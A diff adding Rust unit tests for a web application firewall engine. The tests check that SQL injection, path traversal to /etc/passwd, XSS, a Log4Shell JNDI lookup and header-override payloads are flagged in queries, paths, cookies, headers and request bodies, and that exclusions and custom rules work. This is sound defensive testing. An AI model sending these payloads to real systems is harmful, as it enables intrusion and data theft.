@@ -1,0 +1,76 @@
+//! The engine over whole requests: places, exclusions, custom rules, bodies.
+
+use super::*;
+use gatehouse_config::{WafExclusion, WafGroups, WafMode, WafRule};
+use http::HeaderValue;
+
+fn engine(custom: Vec<WafRule>, exclusions: Vec<WafExclusion>) -> Engine {
+    Engine::new(Arc::new(Waf { mode: WafMode::Block, groups: WafGroups::all(), custom, exclusions, body_limit: 1024 }))
+}
+
+fn headers(pairs: &[(&'static str, &str)]) -> HeaderMap {
+    let mut h = HeaderMap::new();
+    for (k, v) in pairs {
+        h.append(*k, HeaderValue::from_str(v).expect("header"));
+    }
+    h
+}
+
+#[test]
+fn each_place_is_read() {
+    let e = engine(vec![], vec![]);
+    let none = HeaderMap::new();
+    let f = e.head("/search", Some("q=1%27%20or%20%271%27%3D%271"), &none, "/search").expect("query");
+    assert_eq!((&*f.rule, f.group, f.place.as_str()), ("sqli-boolean", "sql_injection", "query:q"));
+    let f = e.head("/files/..%2f..%2fetc%2fpasswd", None, &none, "/files").expect("path");
+    assert_eq!(f.group, "path_traversal");
+    let f = e.head("/", None, &headers(&[("cookie", "a=1; session=<script>alert(1)</script>")]), "/").expect("cookie");
+    assert_eq!(f.place, "cookie:session");
+    let f = e.head("/", None, &headers(&[("user-agent", "sqlmap/1.8")]), "/").expect("scanner");
+    assert_eq!(f.group, "scanner_user_agents");
+    let f = e.head("/", None, &headers(&[("x-api-version", "${jndi:ldap://x/a}")]), "/").expect("jndi");
+    assert_eq!(&*f.rule, "header-jndi");
+    let f = e.head("/", None, &headers(&[("x-original-url", "/admin")]), "/").expect("override");
+    assert_eq!(&*f.rule, "header-override");
+    assert_eq!(e.head("/blog/2024/o'brien-wins", Some("q=rock+%27n%27+roll&page=2"), &none, "/blog"), None);
+}
+
+#[test]
+fn bodies_by_kind() {
+    let e = engine(vec![], vec![]);
+    let form = headers(&[("content-type", "application/x-www-form-urlencoded; charset=utf-8")]);
+    let json = headers(&[("content-type", "application/json")]);
+    assert!(e.wants_body(&form) && e.wants_body(&json));
+    assert!(!e.wants_body(&headers(&[("content-type", "image/png")])));
+    let f = e.body(&form, b"name=bob&comment=%3Cscript%3Ealert(1)%3C%2Fscript%3E", "/").expect("form");
+    assert_eq!(f.place, "body:comment");
+    let f = e.body(&json, br#"{"user":{"name":"x","bio":"\u003csvg onload=alert(1)\u003e"}}"#, "/").expect("json");
+    assert_eq!(f.place, "body:bio");
+    // A document cut at the limit is read as far as it goes.
+    let f = e.body(&json, br#"{"a":"ok","b":"1 union select password from users"#, "/").expect("truncated");
+    assert_eq!(f.place, "body:b");
+    assert_eq!(e.body(&json, br#"{"title":"Rock 'n' roll","tags":["music","1970s"],"n":5}"#, "/"), None);
+}
+
+#[test]
+fn exclusions_and_custom_rules() {
+    let rule = WafRule {
+        id: "no-wp".into(),
+        message: "WordPress probe".into(),
+        target: WafTarget::Path,
+        pattern: regex::RegexBuilder::new("^/wp-(admin|login)").case_insensitive(true).build().expect("regex"),
+    };
+    let e = engine(
+        vec![rule],
+        vec![
+            WafExclusion { rule: "xss".into(), path: Some("/editor".into()), field: None },
+            WafExclusion { rule: "sqli-boolean".into(), path: None, field: Some("filter".into()) },
+        ],
+    );
+    let none = HeaderMap::new();
+    assert_eq!(&*e.head("/WP-Login.php", None, &none, "/wp-login.php").expect("custom").rule, "no-wp");
+    assert_eq!(e.head("/editor/save", Some("html=%3Cscript%3Ex%3C/script%3E"), &none, "/editor/save"), None);
+    assert!(e.head("/other", Some("html=%3Cscript%3Ex%3C/script%3E"), &none, "/other").is_some());
+    assert_eq!(e.head("/api", Some("filter=1%20or%201%3D1"), &none, "/api"), None);
+    assert!(e.head("/api", Some("q=1%20or%201%3D1"), &none, "/api").is_some());
+}
